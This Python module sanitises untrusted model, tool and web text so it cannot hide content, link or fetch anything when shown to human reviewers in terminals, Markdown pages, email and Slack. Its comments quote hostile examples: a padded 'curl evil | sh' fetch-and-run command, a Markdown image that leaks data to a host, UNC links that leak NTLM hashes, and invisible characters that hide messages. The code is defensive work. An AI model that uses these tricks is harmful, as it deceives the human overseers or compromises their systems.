"""The one inert-text rule: text from a model, a tool, a server or a web page shown as text.

Two surfaces, two functions:

- `visible` for a terminal (and for plain-text page widgets, `st.text` / `st.code`, which do not
  interpret Markdown): every control and format character is shown as a visible escape instead of
  taking effect. ESC, CSI/OSC/DCS introducers, C1 controls, DEL, backspace and carriage return
  (which overwrite what was drawn), bidirectional controls (which reorder it), zero-width and
  line/paragraph separators, lone surrogates (which crash a terminal's encoder), and what Unicode
  says to draw as nothing (variation selectors, Hangul fillers), which hides text. Newline and tab
  stay only where the caller allows them.
- `markdown` for a Markdown page element (`st.markdown`, captions, alerts, toasts, labels): the
  visible text on one line with every Markdown metacharacter escaped, so no link, image, autolink,
  HTML, heading, emphasis, icon, colour directive or formula is ever rendered or fetched.

The scan in tests/oversight/test_inert_scan.py holds every rendering call to these two.
"""

from __future__ import annotations

import html
import json
import re
import unicodedata

# Categories whose characters act on the display instead of being drawn: controls (Cc),
# format characters (Cf: bidi controls, zero-width, soft hyphen, tag characters), surrogates (Cs)
# and the line and paragraph separators (Zl, Zp).
_ACTING = frozenset({"Cc", "Cf", "Cs", "Zl", "Zp"})
_SUSPECT = re.compile(r"[^\x20-\x7e]")  # printable ASCII is never touched: the fast path
# Characters Unicode tells a renderer to draw as nothing (Default_Ignorable_Code_Point) that are
# not format characters, so the categories above miss them: variation selectors (256 of them,
# one per byte, hide a whole message after an emoji, as tag characters do), the combining
# grapheme joiner and other marks that draw nothing, the Hangul fillers (letters drawn blank:
# "notes<U+3164>.txt" reads "notes .txt" or "notes.txt"), and the unassigned code points of the
# ignorable blocks. Terminals, browsers and mail clients showed the text around them and hid them.
_INVISIBLE = re.compile(
    "[\u034f\u115f\u1160\u17b4\u17b5\u180b-\u180f\u3164\ufe00-\ufe0f\uffa0"
    "\ufff0-\ufff8\U000e0000-\U000e0fff]"
)
# An emoji's own presentation selector ("⚠️", "❤️", "☺︎"): drawn as part of the character
# before it, so it is left as it is after a character that is drawn. It can carry one bit.
_PRESENTATION = frozenset("\ufe0e\ufe0f")
# Every character Markdown, GitHub-flavoured Markdown or Streamlit's additions give a meaning:
# links and images ([ ] ( ) !), autolinks (< > : @), HTML (< > &), emphasis (* _ ~), code (`),
# headings and tables (# |), directives and icons (:), formulas ($), escapes (\).
# Streamlit's page finds GitHub-flavoured autolinks (`http://`, `https://`, `www.`, an e-mail
# address) and its icons (`:material/home:`, `:streamlit:`) in the text *after*
# Markdown escapes are undone, and after any punctuation (`_http://`, `~www.`): a backslash does
# not stop them. So they are defanged visibly, wherever they stand: "http[:]//host",
# "www[.]host", "admin[@]host.org", "[:]material/home:". The person still reads the address, the
# page never links, mails or draws it. (The browser test in tests/oversight/test_inert_redteam.py found
# every one of these linking or drawing despite the escapes.)
_SCHEME = re.compile(r"(?i)([a-z][a-z0-9+.\-]{0,20}):(?=//)")
_WWW = re.compile(r"(?i)(www)\.")
_EMAIL_AT = re.compile(r"@(?=[\w\-]+(?:\.[\w\-]+)+)")
_ICON = re.compile(r"(?i):(?=material[/_]|streamlit:)")  # Streamlit draws these in text
_MARKDOWN_SPECIALS = re.compile(r"([\\`*_{}\[\]()#!|<>~:$&@])")
# Characters that mean something only where a line starts (lists, headings, breaks, quotes):
# escaped there alone, so ordinary words ("apt-get", "notes.txt", "a+b") read the same in the
# page's source as on screen.
_LINE_START = re.compile(r"^(\s*)([-+=>]|\d+(?=[.)]))")
# Markdown's inline link and image, `[label](url)` and `![alt](url)`: broken up for chats.
_INLINE_LINK = re.compile(r"\]\(")
_UNC = re.compile(r"\\\\(?=[\w.\-])")  # `\\host\share`: a UNC path a mail client links
# `=?utf-8?b?4oCu?=`: an RFC 2047 encoded word, which a mail reader or ntfy decodes in a header
# into the characters it spells (a bidi override, an escape) after every check here
_ENCODED_WORD = re.compile(r"=\?(?=[^?\s]*\?[bq]\?)", re.IGNORECASE)


def _escape(char: str) -> str:
    code = ord(char)
    if code < 0x100:
        return f"\\x{code:02x}"
    return f"<U+{code:04X}>"


def _acts(text: str, at: int) -> bool:
    """Whether `text[at]` acts on the display or draws as nothing, instead of being drawn."""
    char = text[at]
    if unicodedata.category(char) in _ACTING:
        return True
    if _INVISIBLE.match(char) is None:
        return False
    if char in _PRESENTATION and at > 0:
        before = text[at - 1]
        drawn = unicodedata.category(before)[0] in "LNPS" and _INVISIBLE.match(before) is None
        return not drawn
    return True


def visible(text: object, *, newlines: bool = True, tabs: bool = True) -> str:
    """Untrusted text for a terminal: every control and format character shown, not obeyed.

    `newlines=False` / `tabs=False` for one-line contexts (an approval line, a prompt), where a
    newline could draw a fake line below the real one.
    """
    text = "" if text is None else str(text)
    if text.isascii() and text.isprintable():
        return text  # the common case: nothing to show differently
    if newlines:
        text = text.replace("\r\n", "\n")  # a line ending, not an overwrite

    def show(match: re.Match[str]) -> str:
        char = match.group()
        if (char == "\n" and newlines) or (char == "\t" and tabs):
            return char
        if _acts(match.string, match.start()):
            return _escape(char)
        return char

    return _SUSPECT.sub(show, text)


def markdown(text: object, *, limit: int = 300) -> str:
    """Untrusted text as one line of Markdown that renders literally (every special escaped)."""
    return _markdown(text, limit, addresses=False)


def person(text: object, *, limit: int = 120) -> str:
    """Who someone is (the sign-in provider's e-mail, the OS user, a `--by` name) for Markdown:
    inert like `markdown`, except that an e-mail address reads as itself (Streamlit may show it
    as a mailto link: it loads nothing)."""
    return _markdown(text, limit, addresses=True)


def _one_line(text: object, limit: int) -> str:
    """The visible text on one line, at most `limit` characters. A longer one keeps both ends:
    a command padded so that what it does comes last (`echo ... ; curl evil | sh`) shows that
    end in every preview a person reads, or decides from (the inbox's batch)."""
    line = " ".join(visible(text).split())  # newlines and tabs become single spaces
    if len(line) > limit:
        tail = (limit - 1) // 3
        line = line[: limit - 1 - tail] + "…" + line[len(line) - tail :]
    return line


def _defanged(line: str, *, addresses: bool = False) -> str:
    """Addresses a reader would follow (a scheme's `//`, `www.`, an e-mail address) and
    Streamlit's icons, shown so that nothing links them: "http[:]//host", "www[.]host"."""
    line = _ICON.sub("[:]", _SCHEME.sub(r"\1[:]", line))
    line = _WWW.sub(r"\1[.]", line)
    return line if addresses else _EMAIL_AT.sub("[@]", line)


def plain(text: object, *, limit: int = 1000) -> str:
    """Untrusted text as one line of a plain-text message or a header (an e-mail's Subject and
    body, an ntfy push and its Title): controls shown, no CR or LF to start a header of its own,
    no address a mail client or a phone would link. A UNC path (`\\\\host\\share`, which Outlook
    links: a click opens SMB to the host with the reader's NTLM hash) reads `[\\]\\host\\share`.
    An encoded word (`=?utf-8?b?...?=`), which a header's reader decodes, reads `=[?]utf-8?b?...`."""
    line = _UNC.sub(r"[\\]\\", _defanged(_one_line(text, limit)))
    return _ENCODED_WORD.sub("=[?]", line)


def chat(text: object, *, limit: int = 300) -> str:
    """Untrusted text for Slack: one plain line with `&`, `<` and `>` escaped as Slack asks,
    so no `<url|label>` link, `<!channel>` mention or `<@user>` ping is ever made, and no
    address is linked. (It goes in `plain_text` objects, where `*_~` format nothing.)

    The chats that take a Slack-compatible webhook's `text` (Mattermost, Rocket.Chat) read it
    as Markdown, where `![x](//host/leak)`, `\\\\host` or `/\\host` need no scheme to fetch an
    image: a space between `]` and `(` ("[x] (url)") keeps every inline link and image a text.
    """
    line = _INLINE_LINK.sub("] (", plain(text, limit=limit))
    return line.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _markdown(text: object, limit: int, *, addresses: bool) -> str:
    line = _defanged(_one_line(text, limit), addresses=addresses)
    line = _MARKDOWN_SPECIALS.sub(r"\\\1", line)
    match = _LINE_START.match(line)
    if match is None:
        return line
    lead, mark = match.groups()
    if mark[0].isdigit():  # "1." or "1)": an ordered list; escape what follows the number
        cut = match.end()
        return line[:cut] + "\\" + line[cut:]
    return lead + "\\" + line[len(lead) :]


def chart_label(text: object) -> str:
    """Untrusted text for a plotly label or hover text: plotly reads a little HTML there (<a>,
    <b>, <br>), so it is escaped, and controls are shown as in a terminal."""
    return html.escape(visible(text, newlines=False, tabs=False))


def json_text(value: object, *, indent: int | None = None) -> str:
    """A value as JSON that still parses to the same value, with every acting character escaped.

    For JSON a person reads or edits (approval arguments): `\\u202e` instead of the character
    itself, so an edit that keeps the text keeps the value.
    """
    text = json.dumps(value, indent=indent, ensure_ascii=False, default=str)
    return _SUSPECT.sub(_json_escape, text)


def toml_string(text: str) -> str:
    """`text` as a TOML basic string ("..."), for TOML a person reads and pastes (exported
    rules): every acting character and DEL as a `\\uXXXX` / `\\UXXXXXXXX` escape (TOML has no
    surrogate pairs: JSON's `\\ud83d\\udcc1` does not parse), so it parses to the same text.
    A lone surrogate has no TOML form: ValueError."""
    out = ['"']
    for at, char in enumerate(text):
        if char in '"\\':
            out.append("\\" + char)
        elif _acts(text, at):
            code = ord(char)
            if 0xD800 <= code <= 0xDFFF:
                raise ValueError(f"a lone surrogate (U+{code:04X}) has no TOML form")
            out.append(f"\\u{code:04X}" if code <= 0xFFFF else f"\\U{code:08X}")
        else:
            out.append(char)
    out.append('"')
    return "".join(out)


def _json_escape(match: re.Match[str]) -> str:
    char = match.group()
    if not _acts(match.string, match.start()):
        return char
    return json.dumps(char)[1:-1]  # ensure_ascii: \uXXXX, a surrogate pair above U+FFFF


def undecodable(args: list[str]) -> str | None:
    """The first argument holding bytes that are not UTF-8 (Python keeps them as lone surrogates),
    shown with those bytes as `\\xff` escapes; None when every argument is UTF-8 text."""
    for arg in args:
        try:
            arg.encode("utf-8")
        except UnicodeEncodeError:
            raw = arg.encode("utf-8", "surrogateescape").decode("utf-8", "backslashreplace")
            return f"the argument '{visible(raw, newlines=False, tabs=False)}'"
    return None
